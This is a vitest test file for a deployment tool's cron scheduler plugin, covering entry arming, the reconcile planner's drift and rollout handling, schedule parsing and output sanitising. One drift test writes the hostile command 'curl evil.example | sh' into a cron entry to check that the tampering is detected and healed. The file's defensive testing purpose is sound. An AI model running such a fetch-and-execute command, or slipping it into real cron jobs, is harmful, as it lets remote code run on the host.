import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config.js';
import { nextRun, parseCron } from '../../src/lib/cron.js';
import { createExec } from '../../src/lib/exec.js';
import { layoutOf } from '../../src/lib/layout.js';
import { createLogger } from '../../src/lib/logger.js';
import { createRenderer } from '../../src/lib/render.js';
import { parseProcfile } from '../../src/manifest/procfile.js';
import type { AppSpec, ProcessSpec } from '../../src/manifest/types.js';
import type { DesiredResource } from '../../src/plugins/provider.js';
import { loadPlugins } from '../../src/plugins/registry.js';
import { parseEntry, renderEntry, parseEntryFile } from '../../src/plugins/schedulers/cron/entry-files.js';
import { CRON_KIND, cronEntryProvider, type CronEntryLive, type CronEntrySpec } from '../../src/plugins/schedulers/cron/entry-provider.js';
import { printable, RUN_OUTPUT_CHARS, RUN_OUTPUT_LINES, RunOutput } from '../../src/plugins/schedulers/cron/run-output.js';
import { dueAt } from '../../src/plugins/schedulers/cron/scheduler.js';
import { desiredApp } from '../../src/reconcile/desired.js';
import { plan } from '../../src/reconcile/plan.js';
import { UNKNOWN, type Action, type ObservedApp } from '../../src/reconcile/types.js';
import type { AppRecord, ReleaseRecord, ReleaseStatus } from '../../src/store/types.js';

const config = loadConfig({ HOP3_HOME: '/srv/hop3', HOP3_HTTP_PORT: '8080' }, 0);
const layout = layoutOf(config.home);
const plugins = loadPlugins({ config, layout, log: createLogger('silent'), render: createRenderer(), exec: createExec() });

const WEB: ProcessSpec = { name: 'web', kind: 'web', command: 'python app.py' };
const cron = (schedule: string, command = 'python tick.py', name = 'cron'): ProcessSpec => ({ name, kind: 'cron', schedule, command });

function spec(processes: ProcessSpec[]): AppSpec {
  return {
    name: null, metadata: {}, build: { builder: 'auto', before: [] }, run: { workers: 1, beforeRun: [], maxBodyBytes: 10485760 },
    static: { paths: [], maxAge: 3600 }, tls: { mode: 'off', httpsOnly: false, hsts: false }, processes, env: {}, domains: [],
    healthcheck: { path: '/', timeout: null, expectStatus: 200 }, addons: [],
  };
}

function release(version: number, processes: ProcessSpec[], status: ReleaseStatus = 'live'): ReleaseRecord {
  return {
    app: 'blog', version, source: 'push', commit: null, spec: spec(processes), env: { SECRET_KEY: 's3cret' },
    artifact: { kind: 'virtualenv', dir: `apps/blog/releases/v${version}`, metadata: {} }, ports: { web: 20000 + version }, status, message: '', createdAt: '2024-01-01T00:00:00.000Z',
  };
}

function app(over: Partial<AppRecord> = {}): AppRecord {
  return {
    name: 'blog', generation: 1, observedGeneration: 1, desiredState: 'running', desiredRelease: 1, currentRelease: 1, restartCount: 0,
    healPolicy: 'heal', deployBranch: null, owner: 'admin', lifecycle: null, sync: 'Synced', health: 'Healthy', message: '',
    createdAt: '2024-01-01T00:00:00.000Z', updatedAt: '2024-01-01T00:00:00.000Z', ...over,
  };
}

const entries = (resources: DesiredResource[]) => resources.filter((r) => r.kind === CRON_KIND) as DesiredResource<CronEntrySpec>[];

describe('desiredApp: the live release arms its Procfile cron processes', () => {
  it('one entry per cron process, with the environment, directory and PATH its other processes get', () => {
    const target = release(1, [WEB, cron('*/5 * * * *'), cron('0 3 * * *', 'python nightly.py', 'cron-nightly')]);
    const d = desiredApp(app(), target, plugins, config, [target]);
    const armed = entries(d.resources);
    expect(armed.map((r) => r.name)).toEqual(['blog.cron', 'blog.cron-nightly']);
    const e = parseEntry(armed[0]!.spec.content)!;
    expect(e).toMatchObject({ app: 'blog', process: 'cron', release: 1, schedule: '*/5 * * * *', command: 'python tick.py' });
    expect(armed[0]!.spec.path).toBe('/srv/hop3/cron/blog.cron.json');
    // The web process's run file holds what a vassal gets: the same, but for its name, instance and port.
    const runFile = d.resources.find((r) => r.kind === 'runfile')!.spec as { content: string };
    const web = JSON.parse(runFile.content) as { env: Record<string, string>; cwd: string };
    expect(e.cwd).toBe(web.cwd);
    const { HOP3_PROCESS: webProcess, HOP3_INSTANCE: instance, PORT, ...webEnv } = web.env;
    const { HOP3_PROCESS: cronProcess, ...cronEnv } = e.env;
    expect([webProcess, instance, PORT, cronProcess]).toEqual(['web', '1', '20001', 'cron']);
    expect(cronEnv).toEqual(webEnv);
    expect(cronEnv.SECRET_KEY).toBe('s3cret');
    expect(cronEnv.PATH).toBe('/srv/hop3/apps/blog/releases/v1/venv/bin:/usr/local/bin:/usr/bin:/bin');
  });

  it.each(['stopped', 'paused'] as const)('a %s app arms none', (state) => {
    const target = release(1, [WEB, cron('* * * * *')]);
    expect(entries(desiredApp(app({ desiredState: state }), target, plugins, config, [target]).resources)).toEqual([]);
  });
});

// --- the planner over cron entries, with the provider's own pure parts -----------------------

const provider = cronEntryProvider(layout, () => false);
const providers = plugins.providers;

/** Reality exactly as the resources want it (the entries armed as written). */
function observedOf(resources: DesiredResource[]): ObservedApp {
  const seen: ObservedApp['resources'] = new Map(providers.map((p) => [p.kind, new Map()]));
  for (const r of resources) {
    const spec = r.spec as { path?: string; content?: string };
    const live = r.kind === 'vassal' ? { content: spec.content, enabled: true, process: { pid: 1, respawns: 0, ready: true, cursed: false, restartedFrom: null } }
      : r.kind === 'site' ? { ...spec, loaded: true }
        : r.kind === CRON_KIND ? { ...(spec as CronEntrySpec), running: false } satisfies CronEntryLive
          : spec;
    (seen.get(r.kind) as Map<string, unknown>).set(r.name, live);
  }
  return { resources: seen };
}

const cronActions = (actions: Action[]) => actions.flatMap((a, i) => (a.type === 'resource' && a.kind === CRON_KIND ? [`${i}:${a.op}:${a.name}`] : []));
const indexOf = (actions: Action[], type: Action['type']) => actions.findIndex((a) => a.type === type);

/** v1 is live and armed as `v1procs` say; v2 (`v2procs`) is built and rolls out. */
function rollout(v1procs: ProcessSpec[], v2procs: ProcessSpec[]) {
  const v1 = release(1, v1procs);
  const v2 = release(2, v2procs, 'built');
  const before = desiredApp(app(), v1, plugins, config, [v1]);
  const d = desiredApp(app({ desiredRelease: 2, generation: 2 }), v2, plugins, config, [v1, v2]);
  return { d, o: observedOf(before.resources), p: plan(d, observedOf(before.resources), providers) };
}

describe('plan: cron entries', () => {
  it('converged: an armed entry as desired plans nothing', () => {
    const target = release(1, [WEB, cron('* * * * *')]);
    const d = desiredApp(app(), target, plugins, config, [target]);
    expect(plan(d, observedOf(d.resources), providers)).toEqual({ actions: [], findings: [], rollout: false });
  });

  it('added: a release with a new cron line arms it at the switch, after the health gate', () => {
    const { p } = rollout([WEB], [WEB, cron('*/5 * * * *')]);
    const [create] = cronActions(p.actions);
    expect(create).toMatch(/:create:blog\.cron$/);
    expect(Number(create!.split(':')[0])).toBeGreaterThan(indexOf(p.actions, 'await-healthy'));
    expect(p.findings).toEqual([]);
  });

  it('changed schedule: the entry is updated in place (its name stays), at the switch', () => {
    const { p } = rollout([WEB, cron('*/5 * * * *')], [WEB, cron('*/10 * * * *')]);
    const acts = cronActions(p.actions);
    expect(acts).toHaveLength(1);
    expect(acts[0]).toMatch(/:update:blog\.cron$/);
    const update = p.actions[Number(acts[0]!.split(':')[0])] as Extract<Action, { type: 'resource' }>;
    expect(parseEntry((update.desired as CronEntrySpec).content)).toMatchObject({ schedule: '*/10 * * * *', release: 2 });
    expect(provider.describe(update.desired as CronEntrySpec)).toBe('"*/10 * * * *" cron of v2');
  });

  it('a new release with the same line updates the entry to the new release', () => {
    const { p } = rollout([WEB, cron('* * * * *')], [WEB, cron('* * * * *')]);
    const update = p.actions.find((a) => a.type === 'resource' && a.kind === CRON_KIND) as Extract<Action, { type: 'resource' }>;
    expect(update.op).toBe('update');
    expect(parseEntry((update.desired as CronEntrySpec).content)!.cwd).toBe('/srv/hop3/apps/blog/releases/v2/src');
  });

  it('removed: a release without the line deletes the entry in prune, after the switch', () => {
    const { p } = rollout([WEB, cron('* * * * *')], [WEB]);
    const acts = cronActions(p.actions);
    expect(acts).toHaveLength(1);
    expect(acts[0]).toMatch(/:delete:blog\.cron$/);
    expect(Number(acts[0]!.split(':')[0])).toBeGreaterThan(indexOf(p.actions, 'await-healthy'));
  });

  it('an entry that is not desired (a stopped app, a file put there by hand) is pruned as drift', () => {
    const target = release(1, [WEB]);
    const d = desiredApp(app(), target, plugins, config, [target]);
    const o = observedOf(d.resources);
    const stray = { path: '/srv/hop3/cron/blog.cron.json', content: renderEntry({ app: 'blog', process: 'cron', release: 1, schedule: '* * * * *', command: 'x', cwd: '/', env: {} }), running: false };
    (o.resources.get(CRON_KIND) as Map<string, unknown>).set('blog.cron', stray);
    const p = plan(d, o, providers);
    expect(cronActions(p.actions)).toEqual([expect.stringMatching(/:delete:blog\.cron$/)]);
    expect(p.findings).toEqual([expect.objectContaining({ resource: 'cron:blog.cron', kind: 'unexpected', observed: '"* * * * *" cron of v1', action: 'healed' })]);
  });

  it('Unknown: an entry that could not be read is only reported; nothing is armed, rewritten or deleted', () => {
    const target = release(1, [WEB, cron('* * * * *')]);
    const d = desiredApp(app(), target, plugins, config, [target]);
    const o = observedOf(d.resources);
    const seen = o.resources.get(CRON_KIND) as Map<string, unknown>;
    seen.set('blog.cron', UNKNOWN);
    // Another entry of the app that is no longer desired: still not pruned while one is Unknown.
    seen.set('blog.cron-old', { path: '/srv/hop3/cron/blog.cron-old.json', content: '{}', running: false });
    const p = plan(d, o, providers);
    expect(cronActions(p.actions)).toEqual([]);
    expect(p.findings).toEqual(expect.arrayContaining([expect.objectContaining({ resource: 'cron:blog.cron', kind: 'unknown', action: 'reported' })]));
  });

  it('Unknown during a rollout: the rollout waits, arming and disarming nothing', () => {
    const v1 = release(1, [WEB, cron('* * * * *')]);
    const v2 = release(2, [WEB], 'built');
    const d = desiredApp(app({ desiredRelease: 2, generation: 2 }), v2, plugins, config, [v1, v2]);
    const o = observedOf(desiredApp(app(), v1, plugins, config, [v1]).resources);
    o.resources.set(CRON_KIND, UNKNOWN);
    const p = plan(d, o, providers);
    expect(p.actions).toEqual([]);
    expect(p.findings).toEqual([expect.objectContaining({ resource: CRON_KIND, kind: 'unknown' })]);
  });

  it('an entry file edited by hand is drift, repaired by rewriting it', () => {
    const target = release(1, [WEB, cron('* * * * *')]);
    const d = desiredApp(app(), target, plugins, config, [target]);
    const o = observedOf(d.resources);
    const seen = o.resources.get(CRON_KIND) as Map<string, CronEntryLive>;
    const live = seen.get('blog.cron')!;
    seen.set('blog.cron', { ...live, content: live.content.replace('python tick.py', 'curl evil.example | sh') });
    const p = plan(d, o, providers);
    expect(cronActions(p.actions)).toEqual([expect.stringMatching(/:update:blog\.cron$/)]);
    expect(p.findings).toEqual([expect.objectContaining({ resource: 'cron:blog.cron', kind: 'changed', action: 'healed' })]);
  });
});

describe('cron: pure parts', () => {
  it('dueAt: a schedule names the minutes it runs in (UTC)', () => {
    const at = (iso: string) => Date.parse(iso);
    expect(dueAt(parseCron('* * * * *'), at('2026-12-01T10:07:00Z'))).toBe(true);
    expect(dueAt(parseCron('*/5 * * * *'), at('2026-12-01T10:05:00Z'))).toBe(true);
    expect(dueAt(parseCron('*/5 * * * *'), at('2026-12-01T10:06:00Z'))).toBe(false);
    expect(dueAt(parseCron('30 3 * * *'), at('2026-12-01T03:30:00Z'))).toBe(true);
    expect(dueAt(parseCron('30 3 * * *'), at('2026-12-01T04:30:00Z'))).toBe(false);
  });

  it('the Procfile refuses a schedule the scheduler could not run, naming the line and the field', () => {
    const p = parseProcfile('web: ./serve\ncron: 61 * * * * ./tick\n');
    expect(p.processes.map((x) => x.name)).toEqual(['web']);
    expect(p.issues).toEqual([expect.objectContaining({ line: 2, key: 'cron', message: expect.stringMatching(/minute field "61" is out of range/) })]);
    expect(parseProcfile('cron: */15  3 * * 1-5 ./tick --all\n').processes).toEqual([{ name: 'cron', kind: 'cron', schedule: '*/15 3 * * 1-5', command: './tick --all' }]);
  });

  it('entry files: a name tells its app and process; content that is not an entry is refused', () => {
    expect(parseEntryFile('blog-2.cron-nightly.json')).toEqual({ app: 'blog-2', process: 'cron-nightly', name: 'blog-2.cron-nightly' });
    expect(parseEntryFile('blog.cron.last')).toBeNull();
    expect(parseEntryFile('blog.web.json')).toBeNull();
    expect(parseEntryFile('.blog.cron.json.tmp')).toBeNull();
    const good = { app: 'blog', process: 'cron', release: 1, schedule: '* * * * *', command: 'x', cwd: '/', env: { A: 'b' } };
    expect(parseEntry(renderEntry(good))).toEqual(good);
    expect(parseEntry('not json')).toBeNull();
    expect(parseEntry(JSON.stringify({ ...good, env: { A: 1 } }))).toBeNull();
    expect(parseEntry(JSON.stringify({ ...good, release: '1' }))).toBeNull();
    expect(parseEntry('null')).toBeNull();
  });

  it('run output: control characters are replaced, and only the tail is kept, bounded in lines and characters', () => {
    expect(printable('ok\u001b[2J\u0007\u009b31m\ttab')).toBe('ok\uFFFD[2J\uFFFD\uFFFD31m\ttab');
    const many = new RunOutput();
    for (let i = 1; i <= 1000; i++) many.line(`line ${i}`);
    expect(many.lines()).toHaveLength(RUN_OUTPUT_LINES);
    expect(many.lines().at(-1)).toBe('line 1000');
    expect(many.dropped).toBe(1000 - RUN_OUTPUT_LINES);
    const wide = new RunOutput();
    for (let i = 0; i < 50; i++) wide.line('x'.repeat(100_000));
    expect(wide.lines().join('').length).toBeLessThanOrEqual(RUN_OUTPUT_CHARS);
    expect(wide.lines().every((l) => l.length < 5000)).toBe(true);
    expect(wide.lines().length + wide.dropped).toBe(50);
  });
});

describe('cron: matches agrees with nextRun', () => {
  it.each(['* * * * *', '*/7 * * * *', '30 3 * * *', '0 0 1 * 1', '15 10-12 * 2,12 *', '0 0 31 2 *'])('%s: every minute of two days, as nextRun finds them', (expr) => {
    const c = parseCron(expr);
    const start = Date.parse('2026-12-01T00:00:00Z');
    for (let m = start; m < start + 2 * 86_400_000; m += 60_000) {
      expect(dueAt(c, m), new Date(m).toISOString()).toBe(nextRun(c, new Date(m - 60_000))?.getTime() === m);
    }
  });
});
